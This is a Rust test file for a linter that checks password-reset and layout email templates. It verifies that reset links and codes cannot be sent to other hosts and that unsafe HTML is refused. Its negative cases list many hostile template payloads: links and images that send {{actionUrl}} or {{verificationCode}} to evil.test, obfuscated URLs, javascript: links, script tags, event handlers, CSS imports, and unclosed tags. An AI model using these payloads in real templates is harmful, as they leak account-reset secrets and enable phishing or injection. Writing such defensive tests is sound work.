//! What the lint says, and that a secret cannot be sent anywhere.

use std::sync::LazyLock;

use super::*;
use crate::domain::mail::MailKind;
use crate::mail::render;

static RENDERER: LazyLock<Renderer> = LazyLock::new(render::built_in);

const LINK: TemplateKind = TemplateKind::Mail(MailKind::PasswordResetLink);
const CODE: TemplateKind = TemplateKind::Mail(MailKind::PasswordResetCode);

fn origins() -> Origins {
    Origins::of([
        "https://id.example.com/reset?x",
        "http://localhost:3000",
        "https://{tenant_name}.example.net/",
        "nothing",
    ])
}

fn read_parts(kind: TemplateKind, parts: &TemplateParts) -> Reading {
    super::read(kind, parts, &origins(), &RENDERER)
}

fn html(kind: TemplateKind, html: &str) -> Vec<String> {
    let parts = TemplateParts {
        html: Some(html.to_owned()),
        text: Some("{{actionUrl}}".to_owned()),
        ..TemplateParts::default()
    };
    let parts =
        if kind == CODE { TemplateParts { text: Some("{{verificationCode}}".to_owned()), ..parts } } else { parts };
    codes(&read_parts(kind, &parts))
}

fn text(kind: TemplateKind, text: &str) -> Vec<String> {
    codes(&read_parts(kind, &TemplateParts { text: Some(text.to_owned()), ..TemplateParts::default() }))
}

/// What is said besides what a mail must show, which has a test of its own.
fn codes(reading: &Reading) -> Vec<String> {
    let others = reading.marks.iter().filter(|mark| mark.code != "missing_variable");
    others.map(|mark| format!("{}:{} {}", mark.line, mark.column, mark.code)).collect()
}

#[test]
fn a_good_mail_has_no_marks() {
    let good = "<p>Hello {{user.givenName}},</p>\n<a href=\"{{actionUrl}}\" style=\"color:#fff\">Go</a> {{actionUrl}}\n\
        <a href='https://id.example.com/help?for={{application.name}}#top'>Help</a> <img src=\"{{tenant.logoUrl}}\" alt=\"{{tenant.displayName}}\">\n\
        <a href=\"mailto:{{application.supportEmail}}\">{{application.supportEmail}}</a> either/or, 1//2\n\
        {{#if requestedFrom.network}}<a href=\"https://tenant.example.net/\">x</a>{{/if}} <a href=\"#top\">up</a>";
    assert_eq!(html(LINK, good), Vec::<String>::new());
    assert_eq!(text(LINK, "Open {{actionUrl}}. Or see https://id.example.com/help."), Vec::<String>::new());
    assert_eq!(text(CODE, "Code: {{verificationCode}}.\n({{verificationCode}})"), Vec::<String>::new());
}

#[test]
fn a_link_elsewhere_is_an_error_with_its_place() {
    let told = html(LINK, "{{actionUrl}}\n <a href=\"https://evil.test/\">x</a>");
    assert_eq!(told, ["2:5 foreign_link"]);
    assert_eq!(html(LINK, "{{actionUrl}}<a href=\"http://localhost:3000/x\">x</a>"), ["1:17 insecure_link"]);
    assert_eq!(html(LINK, "{{actionUrl}}<a href=\"/x\">x</a>"), ["1:17 relative_link"]);
}

#[test]
fn a_secret_goes_nowhere_else() {
    for bad in [
        "<a href=\"https://evil.test/?t={{actionUrl}}\">x</a>",
        "<a href=\"https://id.example.com/?t={{actionUrl}}\">x</a>",
        "<img src=\"https://evil.test/{{actionUrl}}\">",
        "<img src=\"{{actionUrl}}\">",
        "<img src={{actionUrl}}>",
        "<a href=\"{{actionUrl}}.evil.test\">x</a>",
        "<a href=\"https:{{!}}//evil.test\">x</a>",
        "<a href=\"ht{{!}}tps://evil.test\">x</a>",
        "<a href=\"&#104;ttps&colon;//evil.test\">x</a>",
        "<a href=\"https:&#x2f;&#x2f;evil.test\">x</a>",
        "<a href=\" h\nttps://evil.test\">x</a>",
        "<a href=\"https:\\\\evil.test\">x</a>",
        "<a href=\"https:evil.test\">x</a>",
        "<a href=\"//evil.test\">x</a>",
        "<a href=\"\\/evil.test\">x</a>",
        "<a href=\"https://id.example.com@evil.test\">x</a>",
        "<a href=\"https://id.example.com.evil.test\">x</a>",
        "<a href=\"https://id.example.com:444/\">x</a>",
        "<a href=\"https://{{#if user.email}}id.example.com/?{{/if}}evil.test\">x</a>",
        "<a href=\"{{#if user.email}}https://id.example.com{{/if}}//evil.test\">x</a>",
        "<a href=\"https://{{user.email}}/\">x</a>",
        "<a href=\"{{user.email}}\">x</a>",
        "<a href=\"{{t 'x' a=actionUrl}}\">x</a>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<a href=\"mailto:x@evil.test?body={{actionUrl}}\">x</a>",
        "<a HREF='https://evil.test'>x</a>",
        "<td background=\"https://evil.test/\">",
        "<p style=\"background:url(https://evil.test/)\">",
        "<p style=\"background:url(//evil.test/)\">",
        "<p style=\"background:url(\\68ttps:\\2f\\2f evil.test)\">",
        "<p style=\"color:{{user.givenName}}\">",
        "<style>@import 'https://evil.test/x.css';</style>",
        "<style>p { background: url({{actionUrl}}) }</style>",
        "<!--[if mso]><a href=\"https://evil.test\">x</a><![endif]-->",
        "<script>1</script>",
        "<form action=\"https://id.example.com/\">",
        "<base href=\"https://evil.test/\">",
        "<meta http-equiv=\"Refresh\" content=\"0\">",
        "<p onclick=\"x\">",
        "<a title={{user.givenName}}>x</a>",
        "<a {{user.givenName}}>x</a>",
        "see https://evil.test",
        "see https:&#47;&#47;evil.test",
        "see https://{{user.givenName}}.test",
        "see ftp://id.example.com",
        "see www.evil.test/{{actionUrl}}",
        "see WWW.evil.test now",
    ] {
        let parts = TemplateParts {
            html: Some(format!("<p>{{{{actionUrl}}}} {{{{expiresAt}}}}</p>{bad}")),
            text: Some("{{actionUrl}} {{expiresAt}}".to_owned()),
            ..TemplateParts::default()
        };
        assert!(!read_parts(LINK, &parts).is_fit(), "{bad}");
    }
    for bad in [
        "evil.test/{{verificationCode}}",
        "{{verificationCode}}.evil.test",
        "https://id.example.com/{{verificationCode}}",
        "https://evil.test {{verificationCode}}",
        "//evil.test/?{{verificationCode}}",
        "x@{{verificationCode}}",
        "https://{{#if user.email}}id.example.com/ {{/if}}evil.test {{verificationCode}}",
    ] {
        let parts = TemplateParts {
            text: Some(format!("{{{{verificationCode}}}} {{{{expiresAt}}}}\n{bad}")),
            ..TemplateParts::default()
        };
        assert!(!read_parts(CODE, &parts).is_fit(), "{bad}");
    }
    assert_eq!(html(CODE, "<a href=\"{{verificationCode}}\">{{verificationCode}}</a>"), ["1:4 secret_in_link"]);
}

#[test]
fn html_that_swallows_what_follows_is_not_published() {
    for bad in [
        "Ici: <a href=\"https://evil.test/phish\" ",
        "<script src=\"https://evil.test/x\" ",
        "<img src=x onerror=\"alert(1)\" ",
        "<a href=\"{{actionUrl}}",
        "x <",
        "x </p",
        "<!-- x",
        "<!x",
        "<?x",
        "<style>p { color: red }",
        "<textarea>",
        "<noscript><img src=\"//evil.test/x\"></noscript>",
        "<title>x",
        "<p title=\"{{#if user.email}}\">{{/if}}\" onmouseover=\"x\">",
        "{{#if user.email}}<textarea>{{/if}}<img onerror=\"x\">{{#if user.email}}</textarea>{{/if}}",
        "{{#if user.email}}<!--{{else}}x{{/if}}-->",
        "{{#if user.email}}<a href=\"{{/if}}x\">x</a>",
    ] {
        let parts = TemplateParts {
            html: Some(format!("<p>{{{{actionUrl}}}} {{{{expiresAt}}}}</p>{bad}")),
            text: Some("{{actionUrl}} {{expiresAt}}".to_owned()),
            ..TemplateParts::default()
        };
        assert!(!read_parts(LINK, &parts).is_fit(), "{bad}");
    }
}

#[test]
fn html_that_does_not_end_is_refused_where_it_begins() {
    for (bad, told) in [
        ("{{actionUrl}}\n Ici: <a href=\"https://evil.test/phish\" ", "2:7 not_closed"),
        ("{{actionUrl}} 1 < 2 <b>x</b> <img src=x onerror=\"alert(1)\" ", "1:30 not_closed"),
        ("{{actionUrl}}\n<!-- {{actionUrl}} --", "2:1 not_closed"),
        ("{{actionUrl}}\n<p><style>p {}</p>", "2:4 not_closed"),
        ("{{actionUrl}}\n<p title=\"{{#if user.email}}\">{{/if}}\">x", "2:31 condition_across_tags"),
        ("{{actionUrl}} <", "1:15 not_closed"),
    ] {
        assert_eq!(html(LINK, bad), [told], "{bad}");
    }
    for good in [
        "{{actionUrl}} 1 < 2 &amp",
        "{{actionUrl}} <!-- x --><p title=\"{{#if user.email}}a{{else}}b{{/if}}\">x</p>",
        "<!doctype html><html><head><title>x</title><style>p {}</style></head><p>{{actionUrl}}</p></html>\n",
        "<!--[if mso]>{{#if user.email}}<p>x</p>{{/if}}<![endif]-->{{actionUrl}}",
        "{{#if user.email}}<p>x{{else}}<p>y{{/if}} {{actionUrl}}",
    ] {
        assert_eq!(html(LINK, good), Vec::<String>::new(), "{good}");
    }
    let layout = |layout: &str| {
        let parts = TemplateParts { layout: Some(layout.to_owned()), ..TemplateParts::default() };
        codes(&read_parts(TemplateKind::Layout, &parts))
    };
    assert_eq!(layout("<p>{{{body}}}</p>"), Vec::<String>::new());
    assert_eq!(layout("{{{body}}}\n<img src=\"x"), ["2:1 not_closed"]);
    assert_eq!(layout("<p>x <!-- {{{body}}} -->"), ["1:11 body_in_tag"]);
    assert_eq!(layout("<p title=\"{{{body}}}\">x</p>"), ["1:11 body_in_tag"]);
    assert_eq!(layout("<title>{{{body}}}</title>"), ["1:8 body_in_tag"]);
}

#[test]
fn every_line_of_a_text_has_its_own_place() {
    assert_eq!(text(LINK, "{{actionUrl}}\nb\n https://evil.test/x"), ["3:2 foreign_link"]);
    assert_eq!(
        text(LINK, "ä {{actionUrl}}\r\n(https://evil.test/x) http://evil.test"),
        ["2:2 foreign_link", "2:23 foreign_link"]
    );
    assert_eq!(
        html(LINK, "{{actionUrl}}<style>\np { color: red }\n q { background: url(https://evil.test/) }</style>"),
        ["3:22 foreign_link"]
    );
    assert_eq!(html(LINK, "{{actionUrl}}\n (<b>https://evil.test</b>)"), ["2:6 foreign_link"]);
}

#[test]
fn a_name_that_mail_programs_link_is_a_link() {
    assert_eq!(text(LINK, "{{actionUrl}}\nsee (www.evil.test)."), ["2:6 foreign_link"]);
    assert_eq!(text(LINK, "{{actionUrl}} WWW.Evil.test/x"), ["1:15 foreign_link"]);
    assert_eq!(text(LINK, "{{actionUrl}} www.{{user.email}}"), ["1:15 link_not_fixed"]);
    assert_eq!(html(LINK, "{{actionUrl}} <b>www.evil.test</b>"), ["1:18 foreign_link"]);
    for good in ["evil.test", "awww.x", "www. x", "ada@www.test", "www.example.com, www.example.com."] {
        let origins = Origins::of(["https://www.example.com"]);
        let parts = TemplateParts { text: Some(format!("{{{{actionUrl}}}} {good}")), ..TemplateParts::default() };
        let reading = super::read(LINK, &parts, &origins, &RENDERER);
        assert_eq!(codes(&reading), Vec::<String>::new(), "{good}");
    }
}

#[test]
fn lengths_and_missing_parts_are_told() {
    let with = |parts: TemplateParts| codes(&read_parts(LINK, &parts));
    let long = TemplateParts { subject: Some("x".repeat(151)), ..TemplateParts::default() };
    assert_eq!(with(long), ["1:1 subject_too_long"]);
    let lines = TemplateParts { subject: Some("a\nb".to_owned()), ..TemplateParts::default() };
    assert_eq!(with(lines), ["1:2 subject_line_break"]);
    let shown = TemplateParts { subject: Some("{{actionUrl}}".to_owned()), ..TemplateParts::default() };
    assert_eq!(with(shown), ["1:1 secret_in_subject"]);
    let nothing = TemplateParts { subject: Some("  ".to_owned()), ..TemplateParts::default() };
    assert_eq!(with(nothing), ["1:1 empty"]);
    let large = TemplateParts {
        html: Some(format!("{{{{actionUrl}}}}{}", "x".repeat(103 * 1024))),
        ..TemplateParts::default()
    };
    assert_eq!(with(large), ["1:1 text_missing", "1:1 clipped"]);
    assert_eq!(with(TemplateParts::default()), Vec::<String>::new());
}

#[test]
fn mjml_is_read_like_html_and_what_it_adds_too() {
    let mjml = |inner: &str| {
        let source = format!(
            "<mjml><mj-body><mj-section><mj-column>\n<mj-button href=\"{{{{actionUrl}}}}\">Go {{{{actionUrl}}}}</mj-button>{inner}</mj-column></mj-section></mj-body></mjml>"
        );
        let parts =
            TemplateParts { mjml: Some(source), text: Some("{{actionUrl}}".to_owned()), ..TemplateParts::default() };
        read_parts(LINK, &parts)
    };
    let good = mjml("<mj-text>{{expiresAt}}</mj-text>");
    let of_html = |reading: &Reading| reading.marks.iter().filter(|mark| mark.part == Part::Html).count();
    assert_eq!((of_html(&good), of_html(&mjml(""))), (0, 1), "{:?}", good.marks);
    assert!(good.parts.html.as_ref().is_some_and(|html| html.contains("href=\"{{actionUrl}}\"")));
    assert!(good.compiled.iter().any(|(part, compiled)| *part == Part::Html && compiled.is_document));
    assert_eq!(codes(&mjml("\n<mj-image src=\"https://evil.test/x.png\" />")), ["3:11 foreign_link"]);
    assert_eq!(
        codes(&mjml("<mj-social><mj-social-element name=\"facebook\">x</mj-social-element></mj-social>")),
        ["1:1 foreign_link"]
    );
    assert_eq!(codes(&mjml("\n<mj-tabel></mj-tabel>")), ["3:2 mjml"]);
    assert_eq!(codes(&mjml("\n<mj-text>{{nonsense}}</mj-text>")), ["3:10 unknown_variable"]);
}

#[test]
fn a_mail_says_what_it_must_to_everybody() {
    let updated = TemplateKind::Mail(MailKind::PasswordUpdated);
    let told = |kind, part, source: &str| {
        let mut parts = TemplateParts::default();
        parts.set(part, source.to_owned());
        let marks = read_parts(kind, &parts).marks;
        let missing = marks.into_iter().filter(|mark| mark.code == "missing_variable");
        missing.map(|mark| format!("{}:{} {}", mark.line, mark.column, mark.message)).collect::<Vec<_>>()
    };
    for (kind, part, bad, words) in [
        (LINK, Part::Text, "Hello", "{{actionUrl}} must be shown and is not"),
        (LINK, Part::Text, "{{actionUrl}}", "{{expiresAt}} or {{expiresInMinutes}} must be shown and is not"),
        (LINK, Part::Html, "{{actionUrl}}", "{{expiresAt}} or {{expiresInMinutes}} must be shown and is not"),
        (CODE, Part::Text, "{{verificationCode}}", "{{expiresAt}} or {{expiresInMinutes}} must be shown and is not"),
        (LINK, Part::Html, "<!-- {{actionUrl}} --> {{expiresAt}}", "1:6 {{actionUrl}} must be seen"),
        (LINK, Part::Html, "{{actionUrl}} <!-- {{expiresAt}} -->", "1:20 {{expiresAt}} or"),
        (
            LINK,
            Part::Text,
            "{{#unless actionUrl}}{{actionUrl}}{{/unless}} {{expiresAt}}",
            "1:22 {{actionUrl}} must be shown in",
        ),
        (LINK, Part::Html, "\n<p hidden>{{actionUrl}}</p>{{expiresAt}}", "2:11 {{actionUrl}} must be seen"),
        (LINK, Part::Html, "<p title=\"{{actionUrl}}\">x</p>{{expiresAt}}", "1:11 {{actionUrl}} must be seen"),
        (LINK, Part::Html, "<p style=\"display: none\">{{actionUrl}}</p>{{expiresAt}}", "must be seen"),
        (LINK, Part::Html, "<div style=\"display:none\"><p>{{actionUrl}}</p></div>{{expiresAt}}", "must be seen"),
        (
            LINK,
            Part::Text,
            "{{#if user.givenName}}{{actionUrl}}{{/if}} {{expiresAt}}",
            "here a condition can leave it out",
        ),
        (
            LINK,
            Part::Text,
            "{{actionUrl}} {{#if (eq user.locale \"en\")}}{{expiresAt}}{{/if}}",
            "a condition can leave it out",
        ),
        (
            LINK,
            Part::Html,
            "<!-- {{actionUrl}} -->{{#if user.givenName}}{{actionUrl}}{{/if}} {{expiresAt}}",
            "here nobody sees it",
        ),
        (LINK, Part::Text, "{{actionUrl}} {{t \"mail-automatic\" x=expiresAt}}", "here nobody sees it"),
        (updated, Part::Text, "{{requestedFrom.network}}", "{{occurredAt}} must be shown"),
        (updated, Part::Text, "{{moment occurredAt}}", "{{requestedFrom.network}} must be shown"),
        (TemplateKind::Layout, Part::Layout, "<p hidden>{{{body}}}</p>", "{{{body}}} must be seen"),
        (TemplateKind::Layout, Part::Layout, "{{#if user.givenName}}{{{body}}}{{/if}}", "{{{body}}} must be shown in"),
    ] {
        let told = told(kind, part, bad);
        assert!(matches!(told.as_slice(), [one] if one.contains(words)), "{bad}: {told:?}");
    }
    for (kind, part, good) in [
        (LINK, Part::Text, "{{actionUrl}} {{expiresInMinutes}}"),
        (LINK, Part::Text, "{{#if user.givenName}}{{actionUrl}}{{else}}x {{actionUrl}}{{/if}} {{moment expiresAt}}"),
        (LINK, Part::Text, "{{#if actionUrl}}{{actionUrl}}{{/if}} {{t \"code-preheader\" minutes=expiresInMinutes}}"),
        (
            LINK,
            Part::Html,
            "<a href=\"{{actionUrl}}\">Go</a> <p hidden>x</p>{{t \"reset-link-lasts\" minutes=expiresInMinutes until=(moment expiresAt)}}",
        ),
        (updated, Part::Text, "{{moment occurredAt}}{{#if requestedFrom.network}} {{requestedFrom.network}}{{/if}}"),
    ] {
        assert_eq!(told(kind, part, good), Vec::<String>::new(), "{good}");
    }
}

#[test]
fn a_mail_that_cannot_be_written_to_somebody_without_a_name_is_refused() {
    let source = "{{actionUrl}} {{expiresAt}}\n{{t \"mail-hello\" name=user.givenName}}";
    assert_eq!(text(LINK, source), ["2:1 not_rendered"]);
}

#[test]
fn what_is_built_in_has_no_marks() {
    for kind in TemplateKind::all() {
        let mut parts = TemplateParts::default();
        for part in kind.parts() {
            parts.set(*part, RENDERER.source(kind, *part).unwrap().to_owned());
        }
        assert_eq!(read_parts(kind, &parts).marks, [], "{}", kind.as_str());
    }
}
